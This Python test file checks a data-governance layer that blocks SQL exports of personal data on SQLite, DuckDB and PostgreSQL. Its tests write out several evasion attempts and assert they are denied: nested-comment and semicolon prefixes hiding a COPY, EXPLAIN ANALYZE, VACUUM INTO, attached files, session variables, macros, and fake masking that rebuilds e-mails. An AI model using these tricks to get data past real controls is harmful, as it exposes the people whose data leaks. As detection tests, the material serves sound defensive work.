"""Governed SQL databases (lacuna.sql) on SQLite, DuckDB and a live PostgreSQL."""

from __future__ import annotations

import contextlib
import sqlite3
from pathlib import Path

import pandas as pd
import pytest
import sqlalchemy as sa

import lacuna
import lacuna.sql
from bundles import personal_read_denying_bundle
from lacuna.errors import GovernanceViolation
from lacuna.lineage.records import EdgeKind, RunStatus
from lacuna.model import ColumnKind, Tier
from lacuna.sql.statements import analyse
from lacuna.sql.tables import COMMENT_PREFIX, table_ref


def _tables(engine: sa.Engine) -> set[str]:
    return set(sa.inspect(engine).get_table_names())


def test_a_read_carries_its_classification_and_a_renamed_column_keeps_its_class(
        db_url, governed_engine):
    engine = governed_engine(db_url)
    with engine.connect() as conn:
        result = conn.exec_driver_sql(
            "SELECT email AS region, signup_date FROM customers ORDER BY customer_id")
        rows = result.fetchall()
    c = lacuna.sql.classification(result)
    assert len(rows) == 60
    assert c is not None
    assert c.tier is Tier.PROPRIETARY
    assert c.columns["region"].classification is ColumnKind.PII
    assert "customers.email" in c.columns["region"].reasoning
    assert lacuna.sql.classification() is c  # the last governed read of this thread


def test_a_denied_write_executes_nothing_says_what_pandas_says_and_is_recorded(
        db_url, governed_engine):
    engine = governed_engine(db_url)
    sql = "CREATE TABLE contacts AS SELECT customer_id, email, region FROM customers"
    with pytest.raises(GovernanceViolation) as err, engine.begin() as conn:
        conn.exec_driver_sql(sql)
    assert "contacts" not in _tables(engine)
    decision = err.value.decision
    assert decision.operation.destination.uri.endswith("#contacts")
    gov = lacuna.governor.current()
    run = gov.lineage_store.runs(limit=1)[0]
    assert run.status is RunStatus.DENIED  # where it was headed kept, never produced:
    assert [v.dataset.name[-8:] for v in run.outputs] == ["contacts"]
    assert gov.lineage_store.latest(run.outputs[0].dataset) is None
    # the same data to the same table through pandas: the same decision, the same message
    with lacuna.governed(gov.config):
        frame = pd.read_sql("SELECT customer_id, email, region FROM customers", engine)
        with pytest.raises(GovernanceViolation) as via_pandas:
            frame.to_sql("contacts", engine, index=False)
    theirs = via_pandas.value.decision
    assert (theirs.reasoning, theirs.policy_id) == (decision.reasoning, decision.policy_id)
    assert [a.kind for a in theirs.alternatives] == [a.kind for a in decision.alternatives]
    assert "contacts" not in _tables(engine)


def test_an_allowed_write_stores_its_classification_and_column_lineage(db_url, governed_engine):
    engine = governed_engine(db_url, aware=True)
    with engine.begin() as conn:
        conn.exec_driver_sql(
            "CREATE TABLE contacts AS SELECT email AS region, customer_id FROM customers")
    gov = lacuna.governor.current()
    ref = table_ref(engine.url.render_as_string(hide_password=True), "contacts")
    run = gov.lineage_store.runs(ref, limit=1)[0]
    assert run.status is RunStatus.SUCCEEDED
    edges = {(e.source.name.rpartition("#")[2].rpartition(".")[2], e.source_column,
              e.target_column, e.kind) for e in run.column_edges}
    assert ("customers", "email", "region", EdgeKind.IDENTITY) in edges
    stored = gov.lineage_store.latest(ref)
    assert stored is not None
    assert stored.classification.columns["region"].is_personal
    with engine.begin() as conn:  # an append of innocent values does not launder the column
        conn.exec_driver_sql("INSERT INTO contacts (region, customer_id) VALUES ('north', 'C9')")
    stored = gov.lineage_store.latest(ref)
    assert stored is not None
    assert stored.classification.columns["region"].is_personal
    with engine.connect() as conn:  # read back: the stored class survives the rename
        c = lacuna.sql.classification(conn.exec_driver_sql("SELECT region FROM contacts"))
    assert c is not None
    assert c.columns["region"].classification is ColumnKind.PII
    if engine.dialect.name != "sqlite":  # the table's comment carries it too
        with engine.connect() as conn:
            info = lacuna.sql.database(conn)
            with info as db:
                table = db.table("contacts")
        assert table is not None
        assert (table.comment or "").startswith(COMMENT_PREFIX)


def test_to_sql_through_a_governed_engine_is_decided_from_the_rows_it_sends(
        db_url, governed_engine, sandbox):
    engine = governed_engine(db_url)
    customers = pd.read_csv(sandbox / "customers.csv")
    with pytest.raises(GovernanceViolation):  # pandas is not governed: the engine is
        customers[["customer_id", "email"]].to_sql("emails", engine, index=False)
    with engine.connect() as conn:  # no row written (pandas made the empty table before)
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM emails").scalar() == 0
    sales = pd.read_csv(sandbox / "sales.csv")
    sales[["product_category", "revenue"]].to_sql("revenue", engine, index=False)
    with engine.connect() as conn:
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM revenue").scalar() == 240


def test_update_and_insert_select_are_decided_before_they_run(sqlite_url, governed_engine):
    engine = governed_engine(sqlite_url)
    with engine.begin() as conn:
        conn.exec_driver_sql("CREATE TABLE notes (id TEXT, note TEXT)")
        conn.exec_driver_sql("INSERT INTO notes SELECT customer_id, region FROM customers")
        conn.exec_driver_sql("UPDATE notes SET note = 'checked'")
    with pytest.raises(GovernanceViolation), engine.begin() as conn:
        conn.exec_driver_sql(
            "UPDATE notes SET note = "
            "(SELECT email FROM customers c WHERE c.customer_id = notes.id)")
    with engine.connect() as conn:
        assert conn.exec_driver_sql("SELECT DISTINCT note FROM notes").fetchall() == [("checked",)]
    with pytest.raises(GovernanceViolation), engine.begin() as conn:
        conn.exec_driver_sql("INSERT INTO notes SELECT customer_id, phone FROM customers")
    with engine.connect() as conn:
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM notes").scalar() == 60


def test_duckdb_copy_and_export_leave_the_database_only_when_allowed(
        sandbox, make_db, governed_engine):
    engine = governed_engine(make_db("duckdb"))
    downloads = sandbox / "Downloads"
    out = downloads / "customers.csv"
    with pytest.raises(GovernanceViolation) as err, engine.connect() as conn:
        conn.exec_driver_sql(f"COPY customers TO '{out}' (HEADER)")
    assert not out.exists()
    assert err.value.decision.operation.destination.uri == str(out)
    with pytest.raises(GovernanceViolation), engine.connect() as conn:
        conn.exec_driver_sql(f"EXPORT DATABASE '{downloads / 'dump'}'")
    assert not (downloads / "dump").exists()
    counts = downloads / "by_category.csv"
    with engine.connect() as conn:  # a k-anonymous count of non-personal data may leave
        conn.exec_driver_sql(
            "COPY (SELECT product_category, COUNT(*) AS n FROM sales GROUP BY product_category "
            f"HAVING COUNT(*) >= 5) TO '{counts}' (HEADER)")
    assert counts.exists()


def test_an_unreadable_statement_is_denied_in_enforce_mode(sqlite_url, governed_engine):
    assert analyse("FROBNICATE THE TABLES", "sqlite").kind == "unknown"
    engine = governed_engine(sqlite_url)
    with pytest.raises(GovernanceViolation) as err, engine.connect() as conn:
        conn.exec_driver_sql("FROBNICATE THE TABLES")
    assert "cannot classify this statement" in str(err.value)


def test_table_classification_is_cached_until_the_table_changes(sqlite_url, governed_engine):
    engine = governed_engine(sqlite_url, aware=True)
    first = lacuna.sql.table_classification(engine, "sales")
    assert first is not None
    assert first.columns["revenue"].classification is ColumnKind.FINANCIAL
    assert lacuna.sql.table_classification(engine, "sales") is first
    with engine.begin() as conn:
        conn.exec_driver_sql("INSERT INTO sales SELECT * FROM sales LIMIT 1")
    again = lacuna.sql.table_classification(engine, "sales")
    assert again is not first
    assert any("241 sampled" in e.detail for e in again.columns["customer_id"].evidence)
    assert {n: c.classification for n, c in again.columns.items()} == {
        n: c.classification for n, c in first.columns.items()}
    assert lacuna.sql.table_classification(engine, "no_such_table") is None


def test_pandas_on_a_sqlite3_connection_takes_the_sql_lineage(sandbox, sandbox_config):
    with sqlite3.connect(sandbox / "plain.db") as con:
        pd.read_csv(sandbox / "customers.csv").to_sql("customers", con, index=False)
        with lacuna.governed(sandbox_config()):
            frame = pd.read_sql("SELECT email AS region, name AS note FROM customers", con)
            c = frame.lacuna_classification
            assert c.columns["region"].classification is ColumnKind.PII
            assert c.columns["note"].classification is ColumnKind.PII
            assert frame.lacuna.lineage.sources == (f"sqlite/{sandbox / 'plain.db'}#customers",)
            with pytest.raises(GovernanceViolation):
                frame.to_sql("leak", con)


def test_enable_governs_engines_created_afterwards(sqlite_url, sandbox_config):
    lacuna.enable(sandbox_config())
    engine = sa.create_engine(sqlite_url)  # never passed to lacuna.sql.govern
    try:
        with pytest.raises(GovernanceViolation), engine.begin() as conn:
            conn.exec_driver_sql("CREATE TABLE leak AS SELECT email FROM customers")
        lacuna.disable()
        with engine.begin() as conn:  # plain SQLAlchemy again
            conn.exec_driver_sql("CREATE TABLE leak AS SELECT email FROM customers")
    finally:
        engine.dispose()


@pytest.mark.parametrize("kind", ["duckdb", "postgresql"])
def test_a_column_comment_declares_a_stricter_class(kind, make_db, governed_engine):
    url = make_db(kind, tables=())
    plain = sa.create_engine(url)
    with plain.begin() as conn:
        conn.exec_driver_sql("CREATE TABLE codes (code TEXT, label TEXT)")
        conn.exec_driver_sql("INSERT INTO codes VALUES ('A1', 'x'), ('B2', 'y')")
        conn.exec_driver_sql("COMMENT ON COLUMN codes.code IS 'PII: the national id of a person'")
    plain.dispose()
    engine = governed_engine(url)
    c = lacuna.sql.table_classification(engine, "codes")
    assert c is not None
    assert c.columns["code"].classification is ColumnKind.PII
    assert c.columns["label"].classification is ColumnKind.PUBLIC


def test_only_sqlite_duckdb_and_postgresql_are_governed_explicitly():
    from lacuna.errors import IntegrationError

    with pytest.raises(IntegrationError, match="SQLAlchemy Engine"):
        lacuna.sql.govern("sqlite://")
    assert not Path("nothing").exists()


@pytest.mark.parametrize("kind", ["duckdb", "postgresql"])
def test_merge_is_decided_from_what_each_branch_writes(kind, make_db, governed_engine):
    url = make_db(kind, tables=("customers",))
    plain = sa.create_engine(url)
    with plain.begin() as conn:
        conn.exec_driver_sql("CREATE TABLE contacts (customer_id TEXT, note TEXT)")
        conn.exec_driver_sql("INSERT INTO contacts VALUES ('C0001', 'x')")
    plain.dispose()
    engine = governed_engine(url)
    merge = ("MERGE INTO contacts t USING customers s ON t.customer_id = s.customer_id "
             "WHEN MATCHED THEN UPDATE SET note = {matched} "
             "WHEN NOT MATCHED THEN INSERT (customer_id, note) VALUES (s.customer_id, s.region)")
    with pytest.raises(GovernanceViolation) as err, engine.begin() as conn:
        conn.exec_driver_sql(merge.format(matched="s.email"))
    assert err.value.decision.operation.classification.columns["note"].is_personal
    with engine.connect() as conn:
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM contacts").scalar() == 1
    with engine.begin() as conn:  # identifiers and regions: INTERNAL, to an internal database
        conn.exec_driver_sql(merge.format(matched="s.region"))
    with engine.connect() as conn:
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM contacts").scalar() == 60


def test_duckdb_copy_of_fake_masking_is_denied_and_real_masking_leaves(
        sandbox, make_db, governed_engine):
    duckdb = pytest.importorskip("duckdb")
    email = "kira.kowalski1@example.com"
    pieces = " || ".join(f"substring(email, {n}, 4)" for n in range(1, 33, 4))
    fakes = {  # each returns the e-mail as it was (checked on DuckDB itself first)
        "nomatch": "regexp_replace(email, '^$', 'x')",
        "first_char": "regexp_replace(email, '^k', 'K')",
        "backref": "regexp_replace(email, '(.+)', '\\1', 'g')",
        "pieces": pieces,
    }
    with duckdb.connect() as plain:
        for expression in fakes.values():
            value = plain.execute(f"SELECT {expression} FROM (SELECT '{email}' AS email)")
            assert value.fetchall()[0][0].lower() == email
    engine = governed_engine(make_db("duckdb"))
    downloads = sandbox / "Downloads"
    for name, expression in fakes.items():
        out = downloads / f"{name}.csv"
        with pytest.raises(GovernanceViolation), engine.connect() as conn:
            conn.exec_driver_sql(f"COPY (SELECT {expression} AS e FROM customers) TO '{out}'")
        assert not out.exists(), name
    out = downloads / "masked.csv"
    with engine.connect() as conn:  # genuine redaction and one short prefix may leave
        conn.exec_driver_sql(
            "COPY (SELECT regexp_replace(email, '[^@]', '*', 'g') AS e, "
            "regexp_replace(phone, '.', '#', 'g') AS p, left(address, 3) AS a, region "
            f"FROM customers) TO '{out}' (HEADER)")
    written = pd.read_csv(out, dtype=str)
    assert len(written) == 60
    assert written["e"].str.fullmatch(r"\*+@\*+").all()
    assert written["p"].str.fullmatch(r"#+").all()
    assert (written["a"].str.len() <= 3).all()


def test_sqlite_pieces_of_a_column_are_not_generalisation(sandbox, make_db, governed_engine):
    engine = governed_engine(make_db("sqlite"))
    pieces = " || ".join(f"substr(email, {n}, 4)" for n in range(1, 33, 4))
    with pytest.raises(GovernanceViolation), engine.begin() as conn:
        conn.exec_driver_sql(f"CREATE TABLE rebuilt AS SELECT {pieces} AS e FROM customers")
    with pytest.raises(GovernanceViolation), engine.begin() as conn:  # side by side as well
        conn.exec_driver_sql(
            "CREATE TABLE rebuilt AS SELECT substr(phone, 1, 4) AS a, substr(phone, 5, 4) AS b, "
            "substr(phone, 9, 4) AS c, substr(phone, 13, 4) AS d FROM customers")
    assert "rebuilt" not in _tables(engine)
    gov = lacuna.governor.current()
    with lacuna.governed(gov.config):  # the same rows through pandas to a file: denied
        frame = pd.read_sql(f"SELECT {pieces} AS e FROM customers", engine)
        assert frame.lacuna_classification.columns["e"].is_personal
        with pytest.raises(GovernanceViolation):
            frame.to_csv(sandbox / "Downloads" / "rebuilt.csv")
    assert not (sandbox / "Downloads" / "rebuilt.csv").exists()
    with pytest.raises(GovernanceViolation), engine.begin() as conn:
        # a short prefix of a direct identifier (the e-mail) keeps its class
        conn.exec_driver_sql("CREATE TABLE prefixes AS SELECT substr(email, 1, 2) AS e "
                             "FROM customers")
    with engine.begin() as conn:  # of a quasi-identifier, a generalisation: written, read back
        conn.exec_driver_sql(
            "CREATE TABLE prefixes AS SELECT substr(address, 1, 2) AS e, "
            "substr(address, 1, 2) || '…' AS f, region FROM customers")
    with engine.connect() as conn:
        result = conn.exec_driver_sql("SELECT e, f FROM prefixes")
        rows = result.fetchall()
    assert len(rows) == 60
    assert all(len(e) <= 2 and f == f"{e}…" for e, f in rows)


@pytest.mark.parametrize(("sql", "dialect", "kind", "verb"), [
    # PostgreSQL and DuckDB nest comments: this is one comment, then a COPY, not a DROP
    ("/* /* */ DROP */ COPY customers TO 'x.csv'", "duckdb", "export", "copy"),
    ("/* /* */ DROP */ COPY customers TO 'x.csv'", "postgres", "export", "copy"),
    (";COPY customers TO 'x.csv'", "duckdb", "export", "copy"),
    (";CREATE TABLE t AS SELECT email FROM customers", "sqlite", "write", "create"),
    ("(SELECT email FROM customers)", "duckdb", "read", "select"),
    ("-- note\nDROP TABLE t", "sqlite", "pass", "drop"),
    ("/* only a comment */", "duckdb", "pass", "empty"),
    # EXPLAIN ANALYZE runs its statement; EXPLAIN alone only plans it
    ("EXPLAIN ANALYZE COPY customers TO 'x.csv'", "duckdb", "export", "copy"),
    ("EXPLAIN /* x */ ANALYZE COPY customers TO 'x.csv'", "duckdb", "export", "copy"),
    ("EXPLAIN (ANALYZE, FORMAT JSON) INSERT INTO t SELECT email FROM customers", "postgres",
     "write", "insert"),
    ("EXPLAIN SELECT email FROM customers", "duckdb", "pass", "explain"),
    ("EXPLAIN QUERY PLAN SELECT email FROM customers", "sqlite", "pass", "explain"),
    ("VACUUM", "sqlite", "pass", "vacuum"),
    ("VACUUM main INTO '/tmp/copy.db'", "sqlite", "export", "vacuum"),
    ("VACUUM INTO ?", "sqlite", "unknown", "vacuum"),
    ("EXPORT DATABASE warehouse TO '/tmp/dump'", "duckdb", "export", "export"),
    ("EXPORT DATABASE '/tmp/dump' (FORMAT parquet)", "duckdb", "export", "export"),
    ('EXPORT DATABASE "/tmp/dump"', "duckdb", "unknown", "export"),
    ("SELECT email INTO contacts FROM customers", "postgres", "write", "create"),
    # statements whose first word says "no data" that hand data back or move a class
    ("SUMMARIZE customers", "duckdb", "read", "summarize"),
    ("SET VARIABLE v = (SELECT max(email) FROM customers)", "duckdb", "read", "set"),
    ("SET VARIABLE v = 42", "duckdb", "pass", "set"),
    ("SELECT getvariable('v')", "duckdb", "read", "select"),
    ("DELETE FROM customers RETURNING email", "postgres", "read", "delete"),
    ("DELETE FROM customers", "postgres", "pass", "delete"),
    ("ALTER TABLE t RENAME COLUMN a TO b", "duckdb", "pass", "rename_column"),
    ("ALTER TABLE t ADD COLUMN b TEXT", "duckdb", "pass", "alter"),
])
def test_what_precedes_or_wraps_a_statement_does_not_change_its_kind(sql, dialect, kind, verb):
    stmt = analyse(sql, dialect)
    assert (stmt.kind, stmt.verb) == (kind, verb), stmt.problem


@pytest.mark.parametrize("sql", [
    "SELECT email FROM customers UNION ALL "
    "SELECT * FROM (WITH customers AS (SELECT 'x' AS e) SELECT e FROM customers)",
    "WITH customers AS (SELECT * FROM customers) SELECT email FROM customers",
])
def test_a_cte_hides_a_table_of_its_name_only_in_its_own_scope(sql):
    stmt = analyse(sql, "duckdb")
    assert (stmt.kind, stmt.reads) == ("read", ("customers",))
    assert analyse("WITH x AS (SELECT 1 AS n) SELECT n FROM x", "duckdb").kind == "pass"


@pytest.mark.parametrize(("options", "adds"), [
    ("(FORMAT csv)", False),
    ("(FORMAT csv, PARTITION_BY (a), APPEND)", True),
    ("(FORMAT csv, PARTITION_BY (a), APPEND true)", True),
    ("(FORMAT csv, PARTITION_BY (a), OVERWRITE_OR_IGNORE 1)", True),
    ("(FORMAT csv, PARTITION_BY (a), OVERWRITE_OR_IGNORE false)", False),
    ("(FORMAT csv, PARTITION_BY (a), OVERWRITE)", False),
])
def test_a_copy_that_keeps_the_files_of_its_folder_adds_to_it(options, adds):
    """``COPY … TO 'folder'`` with APPEND or OVERWRITE_OR_IGNORE: an append to the folder
    (checked against the files written under exceptions, docs/exceptions.md)."""
    stmt = analyse(f"COPY (SELECT 1 AS a) TO 'out' {options}", "duckdb")
    assert (stmt.kind, stmt.file, stmt.adds) == ("export", "out", adds)


def test_duckdb_statements_that_run_a_hidden_export_are_decided(
        sandbox, make_db, governed_engine):
    engine = governed_engine(make_db("duckdb"), aware=True)
    downloads = sandbox / "Downloads"
    for n, sql in enumerate((
        "/* /* */ DROP */ COPY customers TO '{out}'",
        ";COPY customers TO '{out}'",
        "EXPLAIN ANALYZE COPY customers TO '{out}'",
        "EXPORT DATABASE warehouse TO '{out}'",
    )):
        out = downloads / f"out{n}"
        with pytest.raises(GovernanceViolation) as err, engine.connect() as conn:
            conn.exec_driver_sql(sql.format(out=out))
        assert err.value.decision.operation.destination.uri == str(out)
        assert not out.exists(), sql
    # a statement Lacuna cannot read is denied in a database that keeps classifications too
    with engine.connect() as conn:
        conn.exec_driver_sql(f"PREPARE p AS COPY customers TO '{downloads / 'p.csv'}'")
        with pytest.raises(GovernanceViolation) as err:
            conn.exec_driver_sql("EXECUTE p")
    assert "cannot tell where this EXECUTE statement writes" in \
        err.value.decision.operation.destination.reasoning
    assert not (downloads / "p.csv").exists()


def test_sqlite_vacuum_into_a_file_is_an_export_of_every_table(sandbox, make_db, governed_engine):
    engine = governed_engine(make_db("sqlite"))
    out = sandbox / "Downloads" / "copy.db"
    with pytest.raises(GovernanceViolation) as err, engine.connect() as conn:
        conn.exec_driver_sql(f"VACUUM INTO '{out}'")
    assert not out.exists()
    assert "PII" in err.value.decision.operation.classification.tags
    with engine.connect() as conn:
        conn.exec_driver_sql("VACUUM")  # in place: nothing leaves


@pytest.mark.parametrize("kind", ["sqlite", "duckdb"])
def test_a_write_into_an_attached_file_is_decided_for_that_file(
        kind, sandbox, make_db, governed_engine):
    """In a database that keeps classifications, ``CREATE TABLE o.t AS …`` after ``ATTACH
    'file' AS o`` writes into the attached file, which does not: decided for the file."""
    engine = governed_engine(make_db(kind), aware=True)
    out = sandbox / "Downloads" / "elsewhere.db"
    with engine.connect() as conn:
        conn.exec_driver_sql(f"ATTACH '{out}' AS o")
        conn.exec_driver_sql("CREATE TABLE o.kept (email TEXT)")
        for sql in ("CREATE TABLE o.leak AS SELECT email FROM customers",
                    "INSERT INTO o.kept SELECT email FROM customers"):
            with pytest.raises(GovernanceViolation) as err:
                conn.exec_driver_sql(sql)
            assert str(out) in err.value.decision.operation.destination.uri
        if kind == "sqlite":  # an unqualified name found only in the attached file
            with pytest.raises(GovernanceViolation) as err:
                conn.exec_driver_sql("INSERT INTO kept SELECT email FROM customers")
            assert str(out) in err.value.decision.operation.destination.uri
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM o.kept").scalar() == 0
        # tables named at different depths: the normal decision, on what the rows hold
        conn.exec_driver_sql("INSERT INTO o.kept SELECT region FROM customers")
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM o.kept").scalar() == 60
        with pytest.raises(GovernanceViolation, match="Cannot export PROPRIETARY") as err:
            conn.exec_driver_sql("INSERT INTO o.kept SELECT email FROM customers")
        assert "cannot classify" not in str(err.value.decision.operation.classification.reasoning)
    with engine.begin() as conn:  # into the database itself: it keeps the classification
        conn.exec_driver_sql("CREATE TABLE contacts AS SELECT email FROM customers")


@pytest.mark.parametrize(("kind", "put", "get"), [
    ("duckdb", "SET VARIABLE v = (SELECT string_agg(email, ',') FROM customers)",
     "SELECT getvariable('v') AS v"),
    ("postgresql", "SELECT set_config('lacuna.v', (SELECT string_agg(email, ',') FROM customers), "
     "false)", "SELECT current_setting('lacuna.v') AS v"),
])
def test_a_session_variable_does_not_launder_what_was_put_there(
        kind, put, get, sandbox, make_db, governed_engine):
    """What a SET VARIABLE (or set_config) read is not tracked into the session: reading it back
    is PROPRIETARY (fail closed), so it cannot leave as PUBLIC."""
    engine = governed_engine(make_db(kind))
    gov = lacuna.governor.current()
    with engine.connect() as conn:
        conn.exec_driver_sql(put)
        read = gov.audit.list(limit=1)[0]  # the SET is a governed read of customers
        assert (read.action, read.allowed) == ("read", True)
        result = conn.exec_driver_sql(get)
        assert "@" in result.scalar()
        c = lacuna.sql.classification(result)
        assert c is not None
        assert c.tier is Tier.PROPRIETARY
        assert "session variable" in c.reasoning[0]
        other = ("SELECT value FROM duckdb_variables()" if kind == "duckdb"
                 else "SHOW lacuna.v")  # the same value, another way
        result = conn.exec_driver_sql(other)
        assert "@" in str(result.fetchall())
        c = lacuna.sql.classification(result)
        assert c is not None
        assert c.tier is Tier.PROPRIETARY
        if kind == "duckdb":
            out = sandbox / "Downloads" / "c.csv"
            with pytest.raises(GovernanceViolation, match="Cannot export PROPRIETARY"):
                conn.exec_driver_sql(f"COPY ({get}) TO '{out}'")
            assert not out.exists()
            conn.exec_driver_sql("SET VARIABLE n = 42")  # ordinary settings still run
            conn.exec_driver_sql("SET threads = 2")
        else:
            conn.exec_driver_sql("SET search_path = public")
            conn.exec_driver_sql("SHOW search_path")
    assert analyse("SET threads = 2", "duckdb").kind == "pass"
    assert analyse("SET VARIABLE n = (42)", "duckdb").kind == "pass"


def test_duckdb_summarize_is_a_read_of_what_it_summarises(sandbox, make_db, governed_engine):
    engine = governed_engine(make_db("duckdb"))
    with engine.connect() as conn:
        result = conn.exec_driver_sql("SUMMARIZE customers")
        rows = result.fetchall()
        c = lacuna.sql.classification(result)
        assert c is not None
        assert (c.tier, "PII" in c.tags) == (Tier.PROPRIETARY, True)
        assert any("@" in str(r[2]) for r in rows)  # real values: min/max of email
        public = lacuna.sql.classification(conn.exec_driver_sql("SUMMARIZE sales"))
        assert public is not None
        assert "PII" not in public.tags
        assert public.tier is not Tier.PROPRIETARY
        query = lacuna.sql.classification(conn.exec_driver_sql(
            "SUMMARIZE SELECT email FROM customers"))
        assert query is not None
        assert query.tier is Tier.PROPRIETARY
    assert lacuna.governor.current().audit.list(limit=1)[0].action == "read"


@pytest.mark.parametrize("kind", ["sqlite", "duckdb", "postgresql"])
def test_returning_is_a_read_of_the_returned_columns(kind, make_db, governed_engine):
    engine = governed_engine(make_db(kind), aware=True)
    gov = lacuna.governor.current()
    with engine.begin() as conn:
        result = conn.exec_driver_sql(
            "DELETE FROM customers WHERE customer_id = 'C0001' RETURNING email")
        assert "@" in result.scalar()
        c = lacuna.sql.classification(result)
        assert c is not None
        assert c.columns["email"].classification is ColumnKind.PII
        assert gov.audit.list(limit=1)[0].action == "read"
        result = conn.exec_driver_sql(
            "UPDATE customers SET region = region WHERE customer_id = 'C0002' RETURNING email")
        assert "@" in result.scalar()
        c = lacuna.sql.classification(result)
        assert c is not None
        assert c.columns["email"].classification is ColumnKind.PII
        # the read of what comes back, then the write's decision and its outcome
        assert [r.action for r in gov.audit.list(limit=3)] == ["export", "export", "read"]
        conn.exec_driver_sql("UPDATE customers SET region = 'north' WHERE customer_id = 'C0003'")
        assert gov.audit.list(limit=1)[0].action == "export"
        conn.exec_driver_sql("DELETE FROM customers WHERE customer_id = 'C0004'")  # a pass
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM customers").scalar() == 58
        result = conn.exec_driver_sql(
            "INSERT INTO customers (customer_id, region) SELECT 'C9', email FROM customers "
            "WHERE customer_id = 'C0005' RETURNING region")
        assert "@" in result.scalar()
        c = lacuna.sql.classification(result)
        assert c is not None
        assert c.tier is Tier.PROPRIETARY


@pytest.mark.parametrize("kind", ["sqlite", "duckdb", "postgresql"])
def test_a_renamed_table_or_column_keeps_its_stored_class(kind, make_db, governed_engine):
    """Lacuna keeps a class by table and column name: a rename moves it, so a column stored as
    PII whose values look harmless stays PII under its new name."""
    engine = governed_engine(make_db(kind), aware=True)
    with engine.begin() as conn:
        conn.exec_driver_sql(  # e-mails that do not look like e-mails any more
            "CREATE TABLE contacts AS SELECT replace(replace(email, '@', ' '), '.', ' ') "
            "AS region, customer_id FROM customers")
        conn.exec_driver_sql("ALTER TABLE contacts RENAME COLUMN region TO area")
        conn.exec_driver_sql("ALTER TABLE contacts RENAME TO kept")
    with engine.connect() as conn:
        c = lacuna.sql.classification(conn.exec_driver_sql("SELECT area FROM kept"))
    assert c is not None
    assert c.columns["area"].classification is ColumnKind.PII
    assert set(lacuna.sql.table_classification(engine, "kept").columns) == {
        "area", "customer_id"}


@pytest.mark.parametrize(("kind", "define"), [
    ("duckdb", "CREATE MACRO m() AS (SELECT string_agg(email, ',') FROM customers)"),
    ("postgresql", "CREATE FUNCTION m() RETURNS text LANGUAGE sql AS "
     "$$ SELECT string_agg(email, ',') FROM customers $$"),
])
def test_a_user_defined_function_does_not_launder_what_it_reads(
        kind, define, sandbox, make_db, governed_engine):
    """A macro's (or SQL function's) body may read any table, and Lacuna does not read it: a
    statement that calls one is PROPRIETARY (fail closed); built-in functions are not."""
    engine = governed_engine(make_db(kind))
    with engine.connect() as conn:
        conn.exec_driver_sql(define)
        result = conn.exec_driver_sql("SELECT m() AS v")
        assert "@" in result.scalar()
        c = lacuna.sql.classification(result)
        assert c is not None
        assert c.tier is Tier.PROPRIETARY
        assert "calls m, defined in the database" in c.reasoning[0]
        if kind == "duckdb":
            out = sandbox / "Downloads" / "m.csv"
            with pytest.raises(GovernanceViolation, match="Cannot export PROPRIETARY"):
                conn.exec_driver_sql(f"COPY (SELECT m()) TO '{out}'")
            assert not out.exists()
            counts = sandbox / "Downloads" / "n.csv"  # a built-in function: as before
            conn.exec_driver_sql(f"COPY (SELECT upper('x') AS n) TO '{counts}'")
            assert counts.exists()


@pytest.mark.parametrize("kind", ["sqlite", "duckdb", "postgresql"])
def test_returning_is_decided_on_the_columns_it_returns(kind, sandbox, make_db, governed_engine):
    """``UPDATE … RETURNING customer_id`` of a table that holds e-mails reads the identifiers,
    not the e-mails: under a policy that denies reads of personal data it runs and hands the
    rows back, while ``RETURNING email`` is denied before anything runs. The write is decided
    as before (an export of the table to the database)."""
    url = make_db(kind, tables=("customers",))
    plain = sa.create_engine(url)
    with plain.begin() as conn:
        conn.exec_driver_sql("CREATE TABLE members AS SELECT customer_id, email, 0 AS visits "
                             "FROM customers")
    plain.dispose()
    engine = governed_engine(url, aware=True,
                             policy={"dir": str(personal_read_denying_bundle(sandbox))})
    gov = lacuna.governor.current()
    with engine.begin() as conn:
        result = conn.exec_driver_sql(
            "UPDATE members SET visits = visits + 1 WHERE customer_id IN ('C0001', 'C0002') "
            "RETURNING customer_id")
        assert sorted(r[0] for r in result.fetchall()) == ["C0001", "C0002"]
        c = lacuna.sql.classification(result)
        assert c is not None
        assert "PII" not in c.tags
        assert set(c.columns) == {"customer_id"}
        write, read = gov.audit.list(limit=3)[1:]  # the write's outcome is the newest
        assert (write.action, write.allowed, read.action, read.allowed) == (
            "export", True, "read", True)
        assert (write.tier, read.tier) == ("PROPRIETARY", "PUBLIC")  # the write: the table
        result = conn.exec_driver_sql(
            "DELETE FROM members WHERE customer_id = 'C0060' RETURNING customer_id, visits")
        assert result.fetchall() == [("C0060", 0)]
        with pytest.raises(GovernanceViolation, match="personal data may not be read here"):
            conn.exec_driver_sql("UPDATE members SET visits = visits + 1 "
                                 "WHERE customer_id = 'C0001' RETURNING email")
        with pytest.raises(GovernanceViolation, match="personal data may not be read here"):
            conn.exec_driver_sql("UPDATE members SET email = email WHERE customer_id = 'C0001' "
                                 "RETURNING customer_id, upper(email) AS e")
    with engine.connect() as conn:  # read back: the first UPDATE ran, the denied ones did not
        result = conn.exec_driver_sql("SELECT customer_id, visits FROM members "
                                      "WHERE visits > 0 ORDER BY customer_id")
        assert result.fetchall() == [("C0001", 1), ("C0002", 1)]
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM members").scalar() == 59
        with pytest.raises(GovernanceViolation):  # a column the write fills with e-mails
            conn.exec_driver_sql("UPDATE members SET customer_id = email "
                                 "WHERE customer_id = 'C0003' RETURNING customer_id")


@pytest.mark.parametrize(("sql", "kind"), [
    ("DO $$ BEGIN INSERT INTO t SELECT email FROM customers; END $$", "unknown"),
    ("DO LANGUAGE plpgsql $b$ BEGIN COPY customers TO '/tmp/c.csv'; END $b$", "unknown"),
    ("CALL p()", "unknown"),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM 1; END $$",
     "unknown"),
    ("CREATE PROCEDURE p() LANGUAGE sql AS $$ INSERT INTO t SELECT email FROM customers $$",
     "unknown"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ WITH x AS (DELETE FROM t RETURNING 1) "
     "SELECT count(*) FROM x $$", "unknown"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END", "unknown"),
